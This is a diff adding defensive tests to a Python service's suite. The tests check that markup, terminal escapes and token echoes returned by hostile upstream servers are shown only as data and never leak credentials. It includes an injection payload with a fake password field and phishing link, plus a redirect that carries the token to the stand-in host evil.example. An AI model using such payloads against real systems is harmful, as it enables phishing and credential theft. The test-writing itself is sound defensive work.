@@ -1,13 +1,19 @@
 """A side that lies, drips or answers without end neither stops the sidecar nor fills its memory."""
 
+import json
+from base64 import b64encode
 from collections.abc import Iterator
 from contextlib import ExitStack
+from urllib.parse import quote
 
 import pytest
+from redis import Redis
 
 from sidecar.web.slots import OF_ONE_DESTINATION, OF_SOURCE
 from tests.stack import liar
-from tests.stack.hostile_site import HostileSite, hostile_site
+from tests.stack.answering import Answer
+from tests.stack.hostile_site import SOURCE_TOKEN, TOKEN, HostileSite, hostile_site
+from tests.stack.leaks import everything_in, files_below, leaks
 from tests.stack.liar import Attack, Liar
 from tests.stack.pretender import data_answer
 
@@ -92,3 +98,58 @@ def test_an_announced_limit_of_next_to_nothing_stops_nobody(site: HostileSite) -
         site.request_in_background("POST", "/check", site.choices(options=["users", "flows"]))
         site.request_in_background("GET", "/options")
     assert max(site.seconds_of(path) for path in ("/health", "/runs") * 10) < 1
+
+
+EVIL = (
+    "\x1b[2J<div style='position:fixed'><input type=password></div> [Log in](http://evil.example) "
+    "[bold red]"
+)
+
+
+def test_what_a_side_says_is_shown_as_data_and_repeats_no_token(site: HostileSite) -> None:
+    """The destination answers the worker with markup, its token in several forms, and 50 kB."""
+    run_id = site.request("POST", "/runs", site.choices(dry_run=False)).json()["id"]
+    echo = f"{TOKEN} {quote(TOKEN, safe='')} {b64encode(TOKEN.encode()).decode()}"
+    site.destination.answers["/schema/snapshot"] = _error(f"{EVIL} {echo} {'x' * 50_000}")
+    site.source.answers["/notifications"] = _error(f"{EVIL} {SOURCE_TOKEN}")
+    site.worker.start()
+    try:
+        run = site.wait_for_end(run_id)
+    finally:
+        site.worker.process.stop()
+    assert run["status"] == "refused"
+    assert "position:fixed" in run["message"]
+    texts = [run["message"], *(line["message"] for line in run["log"]["lines"])]
+    assert all(len(text) <= 2_000 and "\x1b" not in text for text in texts)
+    (notification,) = site.bodies_of(site.source, "/notifications?fields=id")
+    assert not any(word in notification for word in ("position", "evil", "password"))
+    assert "Reason: `" in notification
+    (listed,) = (one for one in site.request("GET", "/runs").json()["runs"] if one["id"] == run_id)
+    assert (listed["status"], listed["totals"]["source"]) == ("refused", 0)
+    with Redis.from_url(site.redis.url) as redis:
+        places = {**files_below(site.logs), **everything_in(redis), "run": json.dumps(run)}
+    secrets = {"destination": TOKEN, "encoded": quote(TOKEN, safe=""), "source": SOURCE_TOKEN}
+    assert leaks({**places, "notification": notification}, secrets) == []
+
+
+@pytest.mark.parametrize("path", ["/users/me", "/server/ping", "/schema/snapshot", "/fields"])
+def test_no_answer_repeats_a_token(site: HostileSite, path: str) -> None:
+    for echo in (TOKEN, quote(TOKEN, safe=""), b64encode(TOKEN.encode()).decode()):
+        for attack in (
+            _error(echo),
+            _error("no", code=echo),
+            (302, {"Location": f"http://evil.example/?t={echo}"}, b""),
+            (200, {}, f'{{"data": ["{echo}"]}}'.encode()),
+            (200, {}, f'{{"data": {{"directus": "11.{echo}", "vendor": "{echo}"}}}}'.encode()),
+        ):
+            site.destination.answers = {path: attack}
+            answer = site.request("POST", "/check", site.choices())
+            assert answer.status_code in (200, 400, 502), answer.text
+            assert echo not in answer.text
+    secrets = {"plain": TOKEN, "encoded": quote(TOKEN, safe="")}
+    assert leaks(files_below(site.logs), secrets) == []
+
+
+def _error(message: str, code: str = "FORBIDDEN") -> Answer:
+    error = {"message": message, "extensions": {"code": code}}
+    return 400, {"Content-Type": "application/json"}, json.dumps({"errors": [error]}).encode()
